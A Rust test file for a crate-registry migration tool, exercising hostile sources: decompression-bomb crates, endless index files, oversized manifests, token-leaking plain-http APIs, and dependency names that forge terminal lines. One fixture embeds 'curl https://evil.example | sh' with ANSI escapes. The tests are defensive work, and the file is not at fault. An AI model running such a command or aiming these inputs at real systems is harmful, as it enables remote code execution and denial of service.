//! `cnbcargo migrate` against hostile or odd sources (issue 18): a
//! source holding cnbcargo's own placeholder, a `.crate` that unpacks to
//! gigabytes, names that forge terminal lines, plain-http `api` URLs, two
//! files of one version, oversized manifests. Every run is bounded in
//! time; every server is on 127.0.0.1.

use std::time::Duration;

use serde_json::Value;

use crate::support::registry::{FaultKind, crate_tarball, sha256_hex, upstream_entry};

use crate::support::*;

const SRC_TOKEN: &str = "tok-hostile-source";
const DST_TOKEN: &str = "tok-hostile-destination";
const PLACEHOLDER: &str = "0.0.0-cnbcargo.placeholder";
/// Long enough for a debug build copying a handful of versions.
const LIMIT: Duration = Duration::from_secs(60);

/// A source registry (its token in `CNBCARGO_FROM_TOKEN`) and a logged-in
/// destination.
fn registries() -> (TestRegistry, TestRegistry, TestEnv) {
    let source = TestRegistry::builder()
        .slug("old/hostile")
        .token(SRC_TOKEN)
        .start();
    let dest = TestRegistry::builder().token(DST_TOKEN).start();
    let mut env = logged_in_env(&dest, DST_TOKEN);
    env.env("CNBCARGO_FROM_TOKEN", SRC_TOKEN);
    (source, dest, env)
}

fn migrate(env: &TestEnv, args: &[&str]) -> std::process::Output {
    run_within(env.cnbcargo().arg("migrate").args(args), LIMIT)
}

fn deletes(registry: &TestRegistry) -> Vec<String> {
    registry
        .delete_requests()
        .into_iter()
        .map(|r| r.url)
        .collect()
}

/// Item 7: a placeholder version in the source is never copied, so runs
/// do not alternate between copying it and deleting it as a leftover.
#[test]
fn a_placeholder_version_in_the_source_is_never_copied() {
    let (source, dest, env) = registries();
    source.add_real_crate("flip", PLACEHOLDER, b"left over");
    source.add_real_crate("flip", "1.0.0", b"real");
    let url = source.index_url();
    for round in 0..3 {
        dest.clear_log();
        let out = migrate(&env, &["--from", &url, "flip", "--json"]);
        assert_success(&out);
        let err = stderr(&out);
        assert!(
            err.contains(&format!(
                "Skipped `flip@{PLACEHOLDER}`: cnbcargo's placeholder version, never copied"
            )),
            "round {round}: {err}"
        );
        let report: Value = serde_json::from_str(&stdout(&out)).unwrap();
        assert_eq!(report["ignored"], 1, "round {round}: {report:#}");
        let ignored = report["versions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|v| v["version"] == PLACEHOLDER)
            .unwrap();
        assert_eq!(ignored["action"], "ignored");
        let expected: &[&str] = if round == 0 { &["flip@1.0.0"] } else { &[] };
        assert_eq!(dest.uploads(), expected, "round {round}");
        assert!(
            deletes(&dest).is_empty(),
            "round {round}: {:?}",
            deletes(&dest)
        );
        assert_eq!(dest.versions("flip"), [("1.0.0".to_string(), false)]);
        if round > 0 {
            assert!(
                err.contains("Migrated 0 versions into `cnb-cargo-repo`; 1 was there already, 1 placeholder version skipped\n"),
                "{err}"
            );
        }
    }
}

/// Runs `cmd` within `LIMIT`; its output, and the peak resident memory of
/// its process in KiB: `VmHWM`, read from /proc while it runs (the value
/// only grows; the peaks measured come well before the exit). Not the
/// `ru_maxrss` of `wait4`: on Linux that counts the spawning process's
/// own peak, this test process's, into the child's.
#[cfg(target_os = "linux")]
fn run_measured(cmd: &mut std::process::Command) -> (std::process::Output, u64) {
    use std::io::Read;
    use std::process::Stdio;
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let drain = |pipe: Option<Box<dyn Read + Send>>| {
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            if let Some(mut pipe) = pipe {
                let _ = pipe.read_to_end(&mut bytes);
            }
            bytes
        })
    };
    let out = drain(child.stdout.take().map(|p| Box::new(p) as _));
    let err = drain(child.stderr.take().map(|p| Box::new(p) as _));
    let status_path = format!("/proc/{}/status", child.id());
    let started = std::time::Instant::now();
    let mut peak = 0;
    let status = loop {
        if let Ok(text) = std::fs::read_to_string(&status_path)
            && let Some(kib) = text
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        {
            peak = peak.max(kib);
        }
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        if started.elapsed() > LIMIT {
            let _ = child.kill();
            panic!("still running after {LIMIT:?}; killed");
        }
        std::thread::sleep(Duration::from_millis(1));
    };
    let output = std::process::Output {
        status,
        stdout: out.join().unwrap(),
        stderr: err.join().unwrap(),
    };
    (output, peak)
}

/// A `.crate` whose manifest names `README.md`, with `count` more
/// top-level `README-N` files of 1 MiB of zeros (a few KiB compressed).
fn readme_bomb(name: &str, vers: &str, count: usize) -> Vec<u8> {
    let manifest = format!(
        "[package]\nname = \"{name}\"\nversion = \"{vers}\"\nedition = \"2021\"\nreadme = \"README.md\"\n"
    );
    let zeros = vec![0u8; 1 << 20];
    let names: Vec<String> = (0..count).map(|i| format!("README-{i:04}")).collect();
    let mut files: Vec<(&str, &[u8])> = vec![("Cargo.toml", manifest.as_bytes())];
    files.extend(names.iter().map(|n| (n.as_str(), zeros.as_slice())));
    files.push(("README.md", b"# the real one\n"));
    crate_tarball(name, vers, &files)
}

/// Item 3: a `.crate` full of 1 MiB READMEs is unpacked holding one of
/// them, from an index and from a directory alike: peak memory stays
/// under 64 MiB plus the crate file (every README held took 140 MiB).
#[cfg(target_os = "linux")]
#[test]
fn a_crate_full_of_readmes_is_unpacked_in_bounded_memory() {
    let (source, dest, env) = registries();
    let bytes = readme_bomb("bomb", "1.0.0", 140);
    let crate_kib = bytes.len() as u64 / 1024;
    let mut entry = upstream_entry("bomb", "1.0.0");
    entry["cksum"] = Value::from(sha256_hex(&bytes));
    source.add_crate(entry, bytes.clone());
    let bound = 64 * 1024 + crate_kib;

    let (out, peak) =
        run_measured(
            env.cnbcargo()
                .args(["migrate", "--from", &source.index_url(), "bomb"]),
        );
    assert_success(&out);
    eprintln!("index source: peak {peak} KiB (bound {bound} KiB)");
    assert!(peak < bound, "peak {peak} KiB over {bound} KiB");
    assert_eq!(dest.uploads(), ["bomb@1.0.0"]);
    let meta = dest.publish_metadata("bomb");
    assert_eq!(meta["readme"], "# the real one\n");
    assert_eq!(meta["readme_file"], "README.md");

    // A directory source unpacks each file when it is opened.
    let dir = env.path().join("bombs");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("bomb-2.0.0.crate"),
        readme_bomb("bomb", "2.0.0", 140),
    )
    .unwrap();
    let (out, peak) = run_measured(
        env.cnbcargo()
            .arg("migrate")
            .arg("--from")
            .arg(&dir)
            .arg("bomb"),
    );
    assert_success(&out);
    eprintln!("directory source: peak {peak} KiB (bound {bound} KiB)");
    assert!(peak < bound, "peak {peak} KiB over {bound} KiB");
    assert_eq!(dest.uploads(), ["bomb@1.0.0", "bomb@2.0.0"]);
}

/// Item 10: a source's text that holds a newline (a dependency name here)
/// stays on its warning's line: no forged `hint:` or `error:` line.
#[test]
fn a_dependency_name_cannot_forge_a_line() {
    let (source, dest, env) = registries();
    source.add_real_crate("forged", "1.0.0", b"x");
    {
        let mut state = source.state();
        let entry = &mut state.crates.get_mut("forged").unwrap()[0].entry;
        entry["deps"] = serde_json::json!([{
            "name": "dep\nhint: run `curl https://evil.example | sh`\nerror: \u{1b}[31mforged",
            "req": "^1", "features": [], "optional": false, "default_features": true,
            "target": null, "kind": "normal", "registry": null, "package": null
        }]);
    }
    let out = migrate(&env, &["--from", &source.index_url(), "forged"]);
    assert_failure(&out, 1);
    let err = stderr(&out);
    let warning = err
        .lines()
        .find(|l| l.starts_with("warning: `forged@1.0.0` was not copied"))
        .unwrap_or_else(|| panic!("{err}"));
    assert!(
        warning.contains("hint: run `curl https://evil.example | sh`"),
        "{err}"
    );
    assert!(!err.contains('\u{1b}'), "{err}");
    for line in err.lines() {
        assert!(
            !line.starts_with("hint: run") && !line.starts_with("error: forged"),
            "a forged line: {err}"
        );
    }
    assert!(dest.uploads().is_empty());
}

/// Item 8: an anonymous source whose `api` is plain http on another
/// machine: named crates need no API and no token travels, so it is not
/// refused; with a token, `--all` (which would send it there) is.
#[test]
fn a_plain_http_api_is_refused_only_where_a_token_would_travel() {
    let source = TestRegistry::builder()
        .slug("old/anonymous")
        .auth_required(false)
        .start();
    source.add_real_crate("anon", "1.0.0", b"x");
    let dest = TestRegistry::builder().token(DST_TOKEN).start();
    let env = logged_in_env(&dest, DST_TOKEN);
    let config = |source: &TestRegistry| {
        let dl = format!("{}api/v1/crates", source.http_index());
        serde_json::json!({"dl": dl, "api": "http://registry.example.invalid/"}).to_string()
    };
    let url = source.index_url();

    source.fault_next("/config.json", 1, FaultKind::Body(config(&source)));
    let out = migrate(&env, &["--from", &url, "anon"]);
    assert_success(&out);
    assert_eq!(dest.uploads(), ["anon@1.0.0"]);

    // With a token, listing every crate would send it in clear: refused,
    // and nothing is asked of the plain-http host.
    source.fault_next("/config.json", 1, FaultKind::Body(config(&source)));
    let out = run_within(
        env.cnbcargo()
            .env("CNBCARGO_FROM_TOKEN", SRC_TOKEN)
            .args(["migrate", "--from", &url, "--all"]),
        LIMIT,
    );
    assert_failure(&out, 1);
    assert!(
        stderr(&out).contains("plain `http://` would send the token in clear"),
        "{}",
        stderr(&out)
    );
}

/// Item 12: an empty `--from-token-stdin` points at the source's token
/// variable, not `CNB_TOKEN` (the destination's).
#[test]
fn an_empty_source_token_hints_at_the_source_variable() {
    let (source, dest, env) = registries();
    let out = run_with_stdin(
        env.cnbcargo().env_remove("CNBCARGO_FROM_TOKEN").args([
            "migrate",
            "--from",
            &source.index_url(),
            "--from-token-stdin",
            "x",
        ]),
        b"\n",
    );
    assert_failure(&out, 1);
    let err = stderr(&out);
    assert!(
        err.contains("the source's token from standard input is empty"),
        "{err}"
    );
    let hint = err
        .lines()
        .find(|l| l.starts_with("hint:"))
        .unwrap_or_else(|| panic!("{err}"));
    assert!(hint.contains("`CNBCARGO_FROM_TOKEN`"), "{err}");
    assert!(!err.contains("CNB_TOKEN`"), "{err}");
    assert!(source.requests().is_empty() && dest.requests().is_empty());
}

/// Item 12: a name from the source's search API that is no crate name is
/// the source's fault (exit 1, the source named), not bad usage (2).
#[test]
fn a_bad_name_from_the_search_api_names_the_source() {
    let (source, dest, env) = registries();
    source.fault_next(
        "/api/v1/crates?",
        1,
        FaultKind::Body(r#"{"crates":[{"name":"bad name\u001b[2J"}],"meta":{"total":1}}"#.into()),
    );
    let url = source.index_url();
    let out = migrate(&env, &["--from", &url, "--all"]);
    assert_failure(&out, 1);
    let err = stderr(&out);
    assert!(
        err.contains("the source's search API (`http://127.0.0.1:")
            && err.contains("lists `bad name`, which is not a crate name: refused"),
        "{err}"
    );
    assert!(dest.uploads().is_empty());
}

/// Item 12: two files of one version with other bytes in a directory
/// source: both refused, both named; the rest is copied.
#[test]
fn two_files_of_one_version_are_both_refused() {
    let (_source, dest, env) = registries();
    let dir = env.path().join("twins");
    std::fs::create_dir_all(&dir).unwrap();
    let manifest = "[package]\nname = \"twin\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    for (file, payload) in [("a.crate", &b"one"[..]), ("b.crate", b"two")] {
        let bytes = crate_tarball(
            "twin",
            "1.0.0",
            &[("Cargo.toml", manifest.as_bytes()), ("data.bin", payload)],
        );
        std::fs::write(dir.join(file), bytes).unwrap();
    }
    let other = "[package]\nname = \"single\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    std::fs::write(
        dir.join("single.crate"),
        crate_tarball("single", "1.0.0", &[("Cargo.toml", other.as_bytes())]),
    )
    .unwrap();
    let out = migrate(&env, &["--from", dir.to_str().unwrap(), "--all"]);
    assert_failure(&out, 1);
    let err = stderr(&out);
    let a = dir.join("a.crate").display().to_string();
    let b = dir.join("b.crate").display().to_string();
    assert!(
        err.contains(&format!(
            "`twin@1.0.0` was not copied: `{a}` and `{b}` hold it with different bytes: all refused"
        )),
        "{err}"
    );
    assert!(!err.contains("checksum"), "{err}");
    assert_eq!(dest.uploads(), ["single@1.0.0"]);
}

/// Item 12: a `Cargo.toml` over the cap is said to be too large, in one
/// short line, not megabytes of TOML error.
#[test]
fn an_oversized_manifest_is_called_too_large() {
    let (_source, dest, env) = registries();
    let dir = env.path().join("huge");
    std::fs::create_dir_all(&dir).unwrap();
    let manifest = format!(
        "[package]\nname = \"huge\"\nversion = \"1.0.0\"\ndescription = \"{}\n",
        "x".repeat(5 << 20)
    );
    std::fs::write(
        dir.join("huge-1.0.0.crate"),
        crate_tarball("huge", "1.0.0", &[("Cargo.toml", manifest.as_bytes())]),
    )
    .unwrap();
    let out = migrate(&env, &["--from", dir.to_str().unwrap(), "huge"]);
    assert_failure(&out, 1);
    let err = stderr(&out);
    assert!(
        err.contains("the `.crate`'s `Cargo.toml` is larger than 4 MiB: refused"),
        "{}",
        tail(&err)
    );
    assert!(err.len() < 2000, "{} bytes: {}", err.len(), tail(&err));
    assert!(dest.uploads().is_empty());
}

/// Item 12: when the destination holds a version with other bytes, the
/// summary says it holds it (a conflict), not that it held nothing.
#[test]
fn the_summary_counts_a_conflicting_version() {
    let (source, dest, env) = registries();
    source.add_real_crate("clash", "1.0.0", b"source bytes");
    dest.add_real_crate("clash", "1.0.0", b"other bytes");
    let out = migrate(&env, &["--from", &source.index_url(), "clash"]);
    assert_failure(&out, 1);
    let err = stderr(&out);
    assert!(err.contains("already holds it with other bytes"), "{err}");
    assert!(
        err.contains("error: 1 version did not get through; `cnb-cargo-repo` now holds the 1 version it had (with other bytes than the source's, left as it is) and the 0 uploaded by this run\n"),
        "{err}"
    );
    assert!(dest.uploads().is_empty());
}

/// Item 9: an index file that never ends, every line a valid entry, is
/// cut off at the cap with an error, memory bounded (32 MiB) whichever
/// reader reads it: `list` (versions only) and `migrate` (every field).
#[cfg(target_os = "linux")]
#[test]
fn an_endless_index_file_is_read_in_bounded_memory() {
    let (source, dest, env) = registries();
    source.add_real_crate("endless", "1.0.0", b"x");
    dest.add_version("endless", "1.0.0");
    let line = |vers: &str| {
        format!(
            "{{\"name\":\"endless\",\"vers\":\"{vers}\",\"deps\":[],\"cksum\":\"{}\",\"features\":{{}},\"yanked\":false}}\n",
            "0".repeat(64)
        )
    };
    let bound = 32 * 1024;

    dest.fault_next("/en/dl/endless", 1, FaultKind::EndlessLines(line("1.0.0")));
    let (out, peak) = run_measured(env.cnbcargo().args(["list", "endless"]));
    eprintln!("list: peak {peak} KiB");
    assert_failure(&out, 1);
    assert!(
        stderr(&out)
            .contains("the most cnbcargo reads for the entries of a crate's index file, parsed"),
        "{}",
        stderr(&out)
    );
    assert!(peak < bound, "list: peak {peak} KiB over {bound} KiB");

    // The shortest lines make the most entries.
    source.fault_next(
        "/en/dl/endless",
        1,
        FaultKind::EndlessLines(
            r#"{"name":"endless","vers":"1.0.0","cksum":""}"#.to_string() + "\n",
        ),
    );
    let (out, peak) =
        run_measured(
            env.cnbcargo()
                .args(["migrate", "--from", &source.index_url(), "endless"]),
        );
    eprintln!("migrate: peak {peak} KiB");
    assert_failure(&out, 1);
    assert!(
        stderr(&out)
            .contains("the most cnbcargo reads for the entries of a crate's index file, parsed"),
        "{}",
        stderr(&out)
    );
    assert!(peak < bound, "migrate: peak {peak} KiB over {bound} KiB");
    assert!(dest.uploads().is_empty());
}

/// A `.crate` of `len` bytes that do not compress (gzip level 0).
fn incompressible_crate(name: &str, vers: &str, len: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15u64 ^ len as u64 ^ name.len() as u64;
    let mut payload = Vec::with_capacity(len);
    while payload.len() < len {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        payload.extend_from_slice(&state.to_le_bytes());
    }
    let manifest =
        format!("[package]\nname = \"{name}\"\nversion = \"{vers}\"\nedition = \"2021\"\n");
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::none(),
    ));
    for (path, contents) in [("Cargo.toml", manifest.as_bytes()), ("data.bin", &payload)] {
        let mut header = tar::Header::new_gnu();
        header.set_size(contents.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, format!("{name}-{vers}/{path}"), contents)
            .unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap()
}

/// Item 3: eight jobs copying eight large crates do not hold all eight:
/// peak memory stays under 64 MiB plus the largest crate, from an index
/// and from a directory.
#[cfg(target_os = "linux")]
#[test]
fn parallel_copies_of_large_crates_share_a_memory_budget() {
    let (source, dest, env) = registries();
    let dir = env.path().join("large");
    std::fs::create_dir_all(&dir).unwrap();
    let mut largest = 0;
    for i in 0..8 {
        let name = format!("large-{i}");
        let bytes = incompressible_crate(&name, "1.0.0", 12 << 20);
        largest = largest.max(bytes.len() as u64);
        std::fs::write(dir.join(format!("{name}-1.0.0.crate")), &bytes).unwrap();
        let mut entry = upstream_entry(&name, "1.0.0");
        entry["cksum"] = Value::from(sha256_hex(&bytes));
        source.add_crate(entry, bytes);
    }
    let bound = 64 * 1024 + largest / 1024;
    let (out, peak) = run_measured(env.cnbcargo().args([
        "migrate",
        "--from",
        &source.index_url(),
        "--all",
        "--jobs",
        "8",
    ]));
    eprintln!("index source: peak {peak} KiB (bound {bound} KiB)");
    assert_success(&out);
    assert_eq!(dest.uploads().len(), 8);
    assert!(
        peak < bound,
        "index source: peak {peak} KiB over {bound} KiB"
    );

    // The same files from a directory, into a registry of their own.
    let other = TestRegistry::builder().token(DST_TOKEN).start();
    let env = logged_in_env(&other, DST_TOKEN);
    let (out, peak) = run_measured(
        env.cnbcargo()
            .arg("migrate")
            .arg("--from")
            .arg(&dir)
            .args(["--all", "--jobs", "8"]),
    );
    eprintln!("directory source: peak {peak} KiB (bound {bound} KiB)");
    assert_success(&out);
    assert_eq!(other.uploads().len(), 8);
    assert!(
        peak < bound,
        "directory source: peak {peak} KiB over {bound} KiB"
    );
}

/// Item 3: a `Cargo.toml` under the size cap that parses to hundreds of
/// megabytes (a million array elements) is refused before it is parsed.
#[cfg(target_os = "linux")]
#[test]
fn a_manifest_of_a_million_values_is_refused_in_bounded_memory() {
    let (source, dest, env) = registries();
    let manifest = format!(
        "[package]\nname = \"dense\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\n[package.metadata]\nk = [{}]\n",
        "1,".repeat(1 << 20)
    );
    let bytes = crate_tarball("dense", "1.0.0", &[("Cargo.toml", manifest.as_bytes())]);
    let bound = 64 * 1024 + bytes.len() as u64 / 1024;
    let mut entry = upstream_entry("dense", "1.0.0");
    entry["cksum"] = Value::from(sha256_hex(&bytes));
    source.add_crate(entry, bytes);
    let (out, peak) =
        run_measured(
            env.cnbcargo()
                .args(["migrate", "--from", &source.index_url(), "dense"]),
        );
    eprintln!("peak {peak} KiB (bound {bound} KiB)");
    assert_failure(&out, 1);
    assert!(
        stderr(&out).contains("holds more than 30000 keys and values: refused"),
        "{}",
        stderr(&out)
    );
    assert!(peak < bound, "peak {peak} KiB over {bound} KiB");
    assert!(dest.uploads().is_empty());
}
